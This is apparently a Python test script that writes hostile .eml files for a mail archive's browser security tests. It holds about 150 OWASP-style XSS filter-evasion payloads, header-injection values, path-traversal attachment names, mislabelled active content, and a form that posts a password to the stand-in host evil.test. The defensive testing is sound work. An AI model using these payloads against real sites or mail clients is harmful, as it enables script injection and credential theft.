"""The hostile-mail suite: mail written to attack whoever opens the archive.

`python -m tests.hostile_mail` (re)writes tests/mail/hostile/*.eml from the vectors below;
test_hostile_mail.py checks that the committed files are exactly what this script writes, and
test_browser_hostile.py imports them, builds and serves the archive and opens every page in
Chromium. The vectors follow the kinds of OWASP's XSS filter-evasion cheat sheet (written
here from scratch), plus attachment names and types, SVG, CSS, malformed markup, namespace
confusion and remote resources.

Every script vector does the same things when it runs, so a test can tell: it sets
`window.__pwned`, sets the title to PWNED, logs PWNED and calls alert(). Every remote
resource points to http://evil.test/ (RFC 2606 .test: never a real host), which the browser
test must never see requested.
"""

from __future__ import annotations

import base64
import sys
from collections.abc import Iterator
from email.utils import formatdate
from pathlib import Path

HOSTILE_DIR = Path(__file__).resolve().parent / "mail" / "hostile"
EVIL = "http://evil.test"
# What every script vector runs: each effect is one the browser test looks for.
JS = "window.__pwned=1;document.title='PWNED';console.log('PWNED');alert(1)"
# The same with no quote at all, for contexts where any quote would end the vector.
JS_BARE = "window.__pwned=1,console.log(/PWNED/.source),alert(1)"
START = 1704067200  # 2024-01-01 00:00 UTC: the suite spans three months (period views)

_SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="' + JS + '">'
    "<script>" + JS + "</script>"
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    '<img src="x" onerror="' + JS + '"/></body></foreignObject></svg>'
)
_HTML_SCRIPT = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>'
    + JS
    + '</script><img src="x" onerror="'
    + JS
    + '"/></body></html>'
)
_B64_HTML = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
_B64_SVG = base64.b64encode(_SVG_SCRIPT.encode()).decode()
_ENTITIES_DEC = "".join(f"&#{ord(c)};" for c in "javascript:") + "alert(1)"
_ENTITIES_DEC_PAD = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
_ENTITIES_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:") + "alert(1)"

# (name, HTML) — one message each as a single text/html part; also grouped into
# multipart/alternative and message/rfc822 mail below.
HTML_VECTORS: list[tuple[str, str]] = [
    ("script-tag", f"<script>{JS}</script>"),
    ("script-src-remote", f'<script src="{EVIL}/xss.js"></script>'),
    ("script-no-closing", f"<SCRIPT SRC={EVIL}/xss.js?< B >"),
    ("script-protocol-relative", "<SCRIPT SRC=//evil.test/.j></SCRIPT>"),
    ("script-slash-attr", f'<SCRIPT/XSS SRC="{EVIL}/xss.js"></SCRIPT>'),
    ("script-slash-src", f'<SCRIPT/SRC="{EVIL}/xss.js"></SCRIPT>'),
    ("script-extra-brackets", f"<<SCRIPT>{JS}//<</SCRIPT>"),
    ("script-split", f"<scr<script>ipt>{JS}</scr</script>ipt>"),
    ("script-mixed-case", f"<ScRiPt>{JS}</sCrIpT>"),
    ("script-null-byte", f"<SCR\x00IPT>{JS}</SCR\x00IPT>"),
    ("script-end-title", f"</TITLE><SCRIPT>{JS}</SCRIPT>"),
    ("script-end-textarea", f"</textarea><script>{JS}</script>"),
    ("script-quote-gt-1", f'<SCRIPT a=">" SRC="{EVIL}/xss.js"></SCRIPT>'),
    ("script-quote-gt-2", f'<SCRIPT =">" SRC="{EVIL}/xss.js"></SCRIPT>'),
    ("script-quote-gt-3", f'<SCRIPT a=`>` SRC="{EVIL}/xss.js"></SCRIPT>'),
    ("script-quote-gt-4", f'<SCRIPT "a=\'>\'" SRC="{EVIL}/xss.js"></SCRIPT>'),
    (
        "script-document-write",
        f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="{EVIL}/xss.js"></SCRIPT>',
    ),
    ("img-onerror", f'<img src=x onerror="{JS}">'),
    ("img-onerror-bare", f"<IMG SRC=# ONERROR={JS_BARE}>"),
    ("img-onmouseover", f'<IMG SRC=# onmouseover="{JS}">'),
    ("img-javascript-src", f'<IMG SRC="javascript:{JS};">'),
    ("img-javascript-mixed-case", f'<IMG SRC="JaVaScRiPt:{JS};">'),
    ("img-javascript-no-quotes", f"<IMG SRC=javascript:{JS_BARE}>"),
    ("img-grave-accent", f"<IMG SRC=`javascript:{JS}`>"),
    ("img-malformed-quotes", f'<IMG """><SCRIPT>{JS}</SCRIPT>">'),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-decimal-entities", f"<IMG SRC={_ENTITIES_DEC}>"),
    ("img-decimal-entities-padded", f"<IMG SRC={_ENTITIES_DEC_PAD}>"),
    ("img-hex-entities", f"<IMG SRC={_ENTITIES_HEX}>"),
    ("img-embedded-tab", '<IMG SRC="jav\tascript:alert(1);">'),
    ("img-encoded-tab", '<IMG SRC="jav&#x09;ascript:alert(1);">'),
    ("img-encoded-newline", '<IMG SRC="jav&#x0A;ascript:alert(1);">'),
    ("img-encoded-cr", '<IMG SRC="jav&#x0D;ascript:alert(1);">'),
    ("img-null-in-scheme", "<IMG SRC=java\x00script:alert(1)>"),
    ("img-leading-space-meta", '<IMG SRC=" &#14;  javascript:alert(1);">'),
    ("img-half-open", "<IMG SRC=\"`<javascript:alert>`('XSS')\""),
    ("img-dynsrc-lowsrc", '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">'),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("img-style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    (
        "a-style-expression-comments",
        'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    ),
    ("svg-onload", f"<svg/onload={JS_BARE}>"),
    ("svg-script", f"<svg><script>{JS}</script></svg>"),
    ("svg-animate-onbegin", f"<svg><animate onbegin={JS_BARE} attributeName=x dur=1s>"),
    (
        "svg-xlink-javascript",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    ),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
        "<text x=20 y=20>click</text></a></svg>",
    ),
    (
        "svg-foreignobject",
        f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;">'
        f'</iframe><img src=x onerror="{JS}"></foreignObject></svg>',
    ),
    ("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{_B64_SVG}#x"/></svg>'),
    ("body-onload", f"<BODY ONLOAD={JS_BARE}>"),
    ("body-onload-junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>"),
    ("body-onpageshow", f'<body onpageshow="{JS}">'),
    ("input-autofocus-onfocus", f'<input autofocus onfocus="{JS}">'),
    ("details-ontoggle", f'<details open ontoggle="{JS}"><summary>x</summary></details>'),
    ("video-source-onerror", f'<video><source onerror="{JS}"></video>'),
    ("audio-onerror", f'<audio src=x onerror="{JS}"></audio>'),
    ("marquee-onstart", f'<marquee onstart="{JS}">x</marquee>'),
    (
        "select-textarea-autofocus",
        f'<select autofocus onfocus="{JS}"></select>'
        f'<textarea autofocus onfocus="{JS}"></textarea><keygen autofocus onfocus="{JS}">',
    ),
    ("custom-element-onclick", f'<x onclick="{JS}">click</x><a href="#" onclick="{JS}">me</a>'),
    ("isindex", f'<isindex type=image src=1 onerror="{JS}">'),
    ("frameset-onload", f'<frameset onload="{JS}">'),
    ("bgsound", '<BGSOUND SRC="javascript:alert(1);">'),
    ("js-entity-include", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("input-image-javascript", '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">'),
    ("body-background-javascript", '<BODY BACKGROUND="javascript:alert(1)">'),
    (
        "table-background-javascript",
        '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD BACKGROUND="javascript:alert(1)">'
        "x</TD></TR></TABLE>",
    ),
    ("link-stylesheet-javascript", '<LINK REL="stylesheet" HREF="javascript:alert(1);">'),
    (
        "css-list-style-image",
        '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br></UL>',
    ),
    ("css-import-remote", f"<STYLE>@import'{EVIL}/xss.css';</STYLE>"),
    ("css-import-escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    ("css-moz-binding", f'<STYLE>BODY{{-moz-binding:url("{EVIL}/xssmoz.xml#xss")}}</STYLE>'),
    ("css-type-javascript", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>"),
    (
        "css-background-image-javascript",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    ),
    ("css-expression", "<XSS STYLE=\"xss:expression(alert('XSS'))\">x</XSS>"),
    (
        "css-behavior",
        f'<XSS STYLE="behavior: url(xss.htc);">x</XSS><p style="behavior:url({EVIL}/x.htc)">b</p>',
    ),
    (
        "div-background-javascript",
        '<DIV STYLE="background-image: url(javascript:alert(1))">d</DIV>',
    ),
    (
        "div-background-unicode-escapes",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
        "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028"
        "\\0031\\0029'\\0029\">d</DIV>",
    ),
    ("div-width-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">d</DIV>"),
    ("style-attr-breakout", f'<p style="color:red;}}</style><script>{JS}</script>">p</p>'),
    ("meta-refresh-javascript", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'),
    (
        "meta-refresh-data",
        f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_B64_HTML}">',
    ),
    (
        "meta-refresh-double-url",
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">',
    ),
    ("meta-refresh-remote", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("meta-link-header", f'<META HTTP-EQUIV="Link" Content="<{EVIL}/xss.css>; REL=stylesheet">'),
    (
        "meta-set-cookie",
        '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    ),
    ("iframe-javascript", '<IFRAME SRC="javascript:alert(1);"></IFRAME>'),
    ("iframe-onmouseover", f'<IFRAME SRC=# onmouseover="{JS}"></IFRAME>'),
    ("iframe-srcdoc", f'<iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;"></iframe>'),
    ("iframe-remote-unclosed", f"<iframe src={EVIL}/scriptlet.html <"),
    ("frameset-frame", '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>'),
    ("base-href-javascript", '<BASE HREF="javascript:alert(1);//"><a href="x">x</a>'),
    ("base-href-remote", f'<base href="{EVIL}/"><img src="x.png"><a href="y">relative</a>'),
    ("object-scriptlet", f'<OBJECT TYPE="text/x-scriptlet" DATA="{EVIL}/scriptlet.html"></OBJECT>'),
    ("object-data-html", f'<object data="data:text/html;base64,{_B64_HTML}"></object>'),
    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
    (
        "embed-svg-data",
        f'<EMBED SRC="data:image/svg+xml;base64,{_B64_SVG}" type="image/svg+xml"'
        ' AllowScriptAccess="always"></EMBED>',
    ),
    ("embed-javascript", '<embed src="javascript:alert(1)">'),
    (
        "xml-data-island",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>'
        '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),
    ("ie-conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->"),
    (
        "ssi-exec",
        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC="
        f"{EVIL}/xss.js></SCRIPT>'\"-->",
    ),
    ("php-echo", "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>"),
    ("comment-attr-breakout", f'<!--<img src="--><img src=x onerror="{JS}">">'),
    ("comment-bang-close", f"<!-- --!><script>{JS}</script>"),
    ("comment-short", f"<!--><script>{JS}</script>"),
    ("comment-element", f'<comment><img src="</comment><img src=x onerror="{JS}">"></comment>'),
    (
        "noscript-breakout",
        f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\"></noscript>",
    ),
    ("xmp-breakout", f'<xmp><img src=x onerror="{JS}"></xmp>'),
    ("template-script", f"<template><script>{JS}</script></template>"),
    (
        "math-mglyph-style",
        f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    ),
    ("math-xlink-javascript", '<math><mi xlink:href="javascript:alert(1)">click</mi></math>'),
    ("svg-p-style-confusion", f"<svg></p><style><a id=\"</style><img src=1 onerror='{JS}'>\">"),
    (
        "form-math-confusion",
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{JS}">',
    ),
    ("form-action-javascript", '<form action="javascript:alert(1)"><input type=submit></form>'),
    (
        "form-remote-formaction",
        f'<form action="{EVIL}/steal" method="post"><input name="password">'
        '<button formaction="javascript:alert(1)">Go</button></form>',
    ),
    ("a-data-text-html", f'<a href="data:text/html;base64,{_B64_HTML}">open me</a>'),
    (
        "a-data-text-html-plain",
        f'<a href="data:text/html,&lt;script&gt;{JS}&lt;/script&gt;">open</a>',
    ),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">vb</a>'),
    ("a-javascript", f'<a href="javascript:{JS}">click</a>'),
    ("a-entity-javascript", '<a href="&#106;avascript:alert(1)">click</a>'),
    ("a-colon-entity", '<a href="javascript&colon;alert(1)">click</a>'),
    ("a-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    ("a-leading-space", '<a href=" javascript:alert(1)">click</a>'),
    ("a-onmouseover-javascript-void", f'<a href="javascript:void(0)" onmouseover="{JS}">x</a>'),
    ("a-unclosed-javascript", '<a href="javascript:alert(1)'),
    ("img-unclosed-end", f'<p>ends here<img src=x onerror="{JS}"'),
    ("es6-template", "<script>Set.constructor`alert\\x28document.domain\\x29```</script>"),
    ("utf7-script", "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-"),
    ("remote-img", f'<img src="{EVIL}/track.png" width=1 height=1>'),
    ("remote-img-protocol-relative", '<img src="//evil.test/proto-relative.png">'),
    ("remote-img-srcset", f'<img srcset="{EVIL}/1x.png 1x, {EVIL}/2x.png 2x">'),
    ("remote-picture", f'<picture><source srcset="{EVIL}/p.png"><img alt=p></picture>'),
    ("remote-body-background", f'<body background="{EVIL}/bg.png">b</body>'),
    ("remote-table-background", f'<table background="{EVIL}/t.png"><tr><td>t</td></tr></table>'),
    ("remote-css-url", f'<div style="background:url({EVIL}/bg.png)">d</div>'),
    (
        "remote-css-font-face",
        f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}"
        "p{font-family:x}</style><p>f</p>",
    ),
    ("remote-link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/s.css">'),
    (
        "remote-link-prefetch",
        f'<link rel="prefetch" href="{EVIL}/pf"><link rel="preload" '
        f'as="image" href="{EVIL}/pl.png"><link rel="dns-prefetch" href="//evil.test">',
    ),
    ("remote-video-poster", f'<video poster="{EVIL}/poster.png" src="{EVIL}/v.mp4"></video>'),
    ("remote-audio-autoplay", f'<audio src="{EVIL}/a.mp3" autoplay></audio>'),
    ("remote-input-image", f'<input type="image" src="{EVIL}/i.png">'),
    ("remote-object-embed", f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">'),
    ("remote-iframe", f'<iframe src="{EVIL}/frame.html"></iframe>'),
    ("remote-a-ping", f'<a ping="{EVIL}/ping" href="#top">ping</a>'),
    ("remote-svg-image", f'<svg><image href="{EVIL}/svg.png" width=10 height=10/></svg>'),
]

# (name, value) — put raw into every header that can carry it, and as RFC 2047 encoded words.
HEADER_VECTORS: list[tuple[str, str]] = [
    ("script", f"<script>{JS}</script>"),
    ("attr-breakout", f'"><img src=x onerror="{JS}">'),
    ("single-quote-breakout", f"'><svg onload={JS_BARE}>"),
    ("javascript-url", f"javascript:{JS}"),
    ("title-breakout", f"</title><script>{JS}</script>"),
    ("comment-breakout", f"--><script>{JS}</script><!--"),
    ("anchor", f'<a href="javascript:{JS}">x</a>'),
    ("template-syntax", "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>"),
]

# Attachment names: each message carries one attachment under the name (Content-Disposition
# filename and Content-Type name; the RFC 2231 forms below).
ATTACHMENT_NAMES: list[str] = [
    "../../../../piperarc-hostile-escape.txt",
    "../../index.html",
    "/tmp/piperarc-hostile-absolute.txt",
    "C:\\Windows\\piperarc-hostile.bat",
    "..\\..\\..\\evil.html",
    "nul\x00byte.html",
    "CON",
    "PRN.txt",
    "aux.html",
    "COM1.svg",
    "LPT1",
    "a" * 300 + ".html",
    "evil.html",
    "evil.HTML",
    "evil.html.",
    "evil.html ",
    "x.svg",
    "x.svgz",
    "page.xhtml",
    "data.xml",
    "old.htm",
    "inc.shtml",
    "shell.php",
    "shell.php.png",
    "evil.html.gz",
    "app.js",
    "mod.mjs",
    "archive.mht",
    "archive.mhtml",
    "style.xsl",
    "run.hta",
    ".htaccess",
    "index.html",
    f'"><img src=x onerror="{JS}">.txt',
    f"<script>{JS}</script>.html",
    f"javascript:{JS_BARE}.html",
]
# Attachments named with RFC 2231 (parameter value continuations and charsets).
RFC2231_NAMES: list[tuple[str, str]] = [
    ("percent-traversal", "filename*=UTF-8''..%2F..%2F..%2Fpiperarc-hostile-2231.html"),
    ("continuation-traversal", 'filename*0="../../"; filename*1="evil.html"'),
    ("encoded-nul", "filename*=UTF-8''evil%00.html"),
    ("encoded-script", "filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.svg"),
    ("rfc2047-in-param", 'filename="=?UTF-8?B?Li4vLi4vZXZpbC5odG1s?="'),
]
# (name, content type, body, disposition): active content types as attachments or parts.
TYPED_PARTS: list[tuple[str, str, str, str]] = [
    ("text-html-attachment", "text/html", _HTML_SCRIPT, "attachment"),
    ("text-html-inline-named", "text/html", _HTML_SCRIPT, 'inline; filename="inline.html"'),
    ("svg-attachment", "image/svg+xml", _SVG_SCRIPT, 'attachment; filename="x.svg"'),
    ("svg-inline", "image/svg+xml", _SVG_SCRIPT, "inline"),
    ("svg-named-png", "image/svg+xml", _SVG_SCRIPT, 'attachment; filename="harmless.png"'),
    ("png-that-is-html", "image/png", _HTML_SCRIPT, 'attachment; filename="photo.png"'),
    ("xhtml-attachment", "application/xhtml+xml", _HTML_SCRIPT, 'attachment; filename="p.xhtml"'),
    (
        "xml-stylesheet",
        "text/xml",
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?>'
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{JS}</x:script>',
        'attachment; filename="feed.xml"',
    ),
    ("javascript-attachment", "application/javascript", JS, 'attachment; filename="a.js"'),
    ("octet-stream-html", "application/octet-stream", _HTML_SCRIPT, 'attachment; filename="f"'),
    ("text-plain-html-name", "text/plain", _HTML_SCRIPT, 'attachment; filename="notes.html"'),
    ("multipart-related-mht", "message/rfc822", "", "attachment"),
]


def _date(n: int) -> str:
    return formatdate(START + n * 50_000, usegmt=True)


def _encoded_word_b(text: str) -> str:
    return "=?UTF-8?B?" + base64.b64encode(text.encode()).decode() + "?="


def _encoded_word_q(text: str) -> str:
    out = []
    for byte in text.encode():
        char = chr(byte)
        if char.isalnum():
            out.append(char)
        elif char == " ":
            out.append("_")
        else:
            out.append(f"={byte:02X}")
    return "=?UTF-8?Q?" + "".join(out) + "?="


def _headers(n: int, name: str, subject: str, extra: str = "") -> str:
    return (
        f"From: Mallory <mallory@evil.test>\n"
        f"To: hostile@example.org\n"
        f"Subject: [hostile] {subject}\n"
        f"Date: {_date(n)}\n"
        f"Message-ID: <{name}@hostile.example>\n"
        f"MIME-Version: 1.0\n{extra}"
    )


def _html_page(body: str) -> str:
    return f"<html><head><title>t</title></head><body><p>Vector:</p>{body}<p>end</p></body></html>"


def _b64_lines(data: bytes) -> str:
    text = base64.b64encode(data).decode()
    return "\n".join(text[i : i + 76] for i in range(0, len(text), 76))


def _html_single(n: int, name: str, html: str) -> str:
    return (
        _headers(n, f"html-{name}", f"HTML body: {name}")
        + "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + _html_page(html)
        + "\n"
    )


def _alternative(n: int, name: str, vectors: list[tuple[str, str]]) -> str:
    html = "".join(f"<div>{v}</div>" for _, v in vectors)
    plain = "Plain version: " + ", ".join(k for k, _ in vectors)
    return (
        _headers(n, f"alternative-{name}", f"multipart/alternative: {name}")
        + 'Content-Type: multipart/alternative; boundary="alt-boundary"\n\n'
        + "--alt-boundary\nContent-Type: text/plain; charset=utf-8\n\n"
        + plain
        + "\n--alt-boundary\nContent-Type: text/html; charset=utf-8\n\n"
        + _html_page(html)
        + "\n--alt-boundary--\n"
    )


def _nested(n: int, name: str, vectors: list[tuple[str, str]]) -> str:
    inner_subject = f"<script>{JS}</script> inner {name}"
    html = "".join(f"<div>{v}</div>" for _, v in vectors)
    inner = (
        f'From: "<img src=x onerror={JS_BARE}>" <inner@evil.test>\n'
        f"Subject: {inner_subject}\nDate: {_date(n)}\n"
        f"Message-ID: <inner-{name}@hostile.example>\nMIME-Version: 1.0\n"
        "Content-Type: text/html; charset=utf-8\n\n" + _html_page(html) + "\n"
    )
    return (
        _headers(n, f"nested-{name}", f"message/rfc822: {name}")
        + 'Content-Type: multipart/mixed; boundary="outer"\n\n'
        + "--outer\nContent-Type: text/plain; charset=utf-8\n\nForwarded below.\n"
        + "--outer\nContent-Type: message/rfc822\nContent-Disposition: inline\n\n"
        + inner
        + "--outer--\n"
    )


def _header_message(n: int, name: str, value: str, encoded: bool) -> str:
    one_line = value.replace("\n", " ")
    if encoded:
        subject = _encoded_word_b(one_line)
        from_name = _encoded_word_q(one_line)
        from_ = f"{from_name} <mallory@evil.test>"
    else:
        subject = one_line
        from_ = f'"{one_line}" <mallory@evil.test>'
    kind = "encoded" if encoded else "raw"
    return (
        f"From: {from_}\nTo: hostile@example.org\nSubject: {subject}\n"
        f"Date: {'Mon, 01 Jan 2024 10:00:00 +0000 ' + one_line if encoded else one_line}\n"
        f"Message-ID: <header-{kind}-{name}.{one_line}@hostile.example>\n"
        f"In-Reply-To: <{one_line}@hostile.example>\n"
        f"References: <{one_line}@hostile.example> <html-script-tag@hostile.example>\n"
        f"X-Mailer: {one_line}\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        f"Headers carry the {name} vector ({kind}).\n"
    )


def _attachment_message(n: int, name: str, disposition_params: str, body: str) -> str:
    return (
        _headers(n, f"attachment-{name}", f"attachment name: {name}")
        + 'Content-Type: multipart/mixed; boundary="mixed"\n\n'
        + "--mixed\nContent-Type: text/plain; charset=utf-8\n\nSee the attachment.\n"
        + "--mixed\nContent-Type: application/octet-stream\n"
        + f"Content-Disposition: attachment; {disposition_params}\n"
        + "Content-Transfer-Encoding: base64\n\n"
        + _b64_lines(body.encode())
        + "\n--mixed--\n"
    )


def _quoted_name(name: str) -> str:
    return '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _typed_message(n: int, name: str, ctype: str, body: str, disposition: str) -> str:
    if name == "multipart-related-mht":
        # An MHTML page (multipart/related with an HTML root) forwarded as a message.
        mht = (
            'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="rel"; '
            'type="text/html"\n\n--rel\nContent-Type: text/html\nContent-Location: '
            f"http://evil.test/\n\n{_HTML_SCRIPT}\n--rel--\n"
        )
        part = (
            "--mixed\nContent-Type: message/rfc822\n"
            'Content-Disposition: attachment; filename="page.mht"\n\n' + mht
        )
    else:
        part = (
            f"--mixed\nContent-Type: {ctype}; charset=utf-8\n"
            f"Content-Disposition: {disposition}\nContent-Transfer-Encoding: base64\n\n"
            + _b64_lines(body.encode())
            + "\n"
        )
    return (
        _headers(n, f"type-{name}", f"content type: {name}")
        + 'Content-Type: multipart/mixed; boundary="mixed"\n\n'
        + "--mixed\nContent-Type: text/plain; charset=utf-8\n\nSee the part.\n"
        + part
        + "--mixed--\n"
    )


def _cid_message(n: int) -> str:
    """An HTML mail whose inline (cid:) image is an SVG with script, and one that lies."""
    return (
        _headers(n, "cid-svg", "inline cid: images that are SVG with script")
        + 'Content-Type: multipart/related; boundary="rel"; type="text/html"\n\n'
        + "--rel\nContent-Type: text/html; charset=utf-8\n\n"
        + _html_page(
            '<img src="cid:svg@hostile"><img src="cid:png@hostile">'
            '<a href="cid:svg@hostile">open the image</a>'
        )
        + "\n--rel\nContent-Type: image/svg+xml\nContent-ID: <svg@hostile>\n"
        + "Content-Transfer-Encoding: base64\n\n"
        + _b64_lines(_SVG_SCRIPT.encode())
        + "\n--rel\nContent-Type: image/png\nContent-ID: <png@hostile>\n"
        + "Content-Transfer-Encoding: base64\n\n"
        + _b64_lines(_HTML_SCRIPT.encode())
        + "\n--rel--\n"
    )


def _utf7_message(n: int) -> str:
    return (
        _headers(n, "charset-utf7", "UTF-7 declared charset")
        + "Content-Type: text/html; charset=utf-7\n\n"
        + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"
    )


def _groups(items: list[tuple[str, str]], size: int) -> Iterator[list[tuple[str, str]]]:
    for i in range(0, len(items), size):
        yield items[i : i + size]


def messages() -> dict[str, bytes]:
    """Every message of the suite: file name → raw bytes."""
    out: dict[str, str] = {}
    n = 0

    def add(file_name: str, text: str) -> None:
        nonlocal n
        out[file_name] = text
        n += 1

    for name, html in HTML_VECTORS:
        add(f"html-{name}.eml", _html_single(n, name, html))
    for i, group in enumerate(_groups(HTML_VECTORS, 12)):
        add(f"alternative-{i:02d}.eml", _alternative(n, f"{i:02d}", group))
        add(f"nested-{i:02d}.eml", _nested(n, f"{i:02d}", group))
    for name, value in HEADER_VECTORS:
        add(f"header-raw-{name}.eml", _header_message(n, name, value, encoded=False))
        add(f"header-encoded-{name}.eml", _header_message(n, name, value, encoded=True))
    for i, fname in enumerate(ATTACHMENT_NAMES):
        params = f"filename={_quoted_name(fname)}"
        add(
            f"attachment-name-{i:02d}.eml", _attachment_message(n, f"{i:02d}", params, _HTML_SCRIPT)
        )
    for name, params in RFC2231_NAMES:
        add(f"attachment-2231-{name}.eml", _attachment_message(n, name, params, _HTML_SCRIPT))
    for name, ctype, body, disposition in TYPED_PARTS:
        add(f"type-{name}.eml", _typed_message(n, name, ctype, body, disposition))
    add("cid-svg.eml", _cid_message(n))
    add("charset-utf7.eml", _utf7_message(n))
    # surrogateescape: the vectors with NUL and raw bytes go out as written.
    return {k: v.encode("utf-8", "surrogateescape") for k, v in sorted(out.items())}


def vector_count() -> int:
    """How many distinct vectors the suite carries (HTML, header, name and type vectors)."""
    return (
        len(HTML_VECTORS)
        + len(HEADER_VECTORS) * 2
        + len(ATTACHMENT_NAMES)
        + len(RFC2231_NAMES)
        + len(TYPED_PARTS)
        + 2
    )


def write(folder: Path = HOSTILE_DIR) -> int:
    """(Re)write the suite's .eml files into `folder`, removing stale ones; returns a count."""
    folder.mkdir(parents=True, exist_ok=True)
    wanted = messages()
    for stale in folder.glob("*.eml"):
        if stale.name not in wanted:
            stale.unlink()
    for name, data in wanted.items():
        (folder / name).write_bytes(data)
    return len(wanted)


if __name__ == "__main__":
    count = write(Path(sys.argv[1]) if len(sys.argv) > 1 else HOSTILE_DIR)
    print(f"wrote {count} hostile messages ({vector_count()} vectors) to {HOSTILE_DIR}")
